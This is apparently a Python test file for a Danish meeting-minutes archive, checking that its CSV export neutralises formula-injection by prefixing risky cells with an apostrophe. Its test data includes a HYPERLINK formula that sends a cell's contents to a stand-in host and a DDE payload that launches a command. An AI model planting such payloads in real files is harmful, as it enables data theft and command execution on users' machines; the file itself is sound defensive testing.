"""data/punkter.csv: a cell that a spreadsheet program would read as a formula is written as text
(issue #15, item 9)."""
from __future__ import annotations

import csv
import io
from datetime import date

from referatarkiv.archive.link import build_archive
from referatarkiv.model import AgendaItem, Attachment, Decision, Meeting
from referatarkiv.site.opendata import csv_cell, items_csv

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"Klik")', "@SUM(1+1)", "+1+1", "-1+1", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


def test_formula_cells_get_an_apostrophe():
    for f in FORMULAS:
        assert csv_cell(f) == "'" + f
    for plain in ("Godkendt.", "1. at planen godkendes", " =ikke først", "", "Teknik & Miljø", 5):
        assert csv_cell(plain) == plain


def test_no_cell_of_the_items_csv_starts_a_formula():
    items = [AgendaItem(i + 1, f, case_number="20/1", decision=Decision(f, ["godkendt"]),
                        attachments=[Attachment(None, f)]) for i, f in enumerate(FORMULAS)]
    m = Meeting(committee="=udvalg()", date=date(2021, 1, 5), items=items, municipality="@kommune",
                source_path="k/x.txt")
    rows = list(csv.reader(io.StringIO(items_csv(build_archive([m])), newline="")))
    assert len(rows) == len(FORMULAS) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    titles = [r[6] for r in rows[1:]]
    assert titles == ["'" + f for f in FORMULAS]  # kept in full, as text
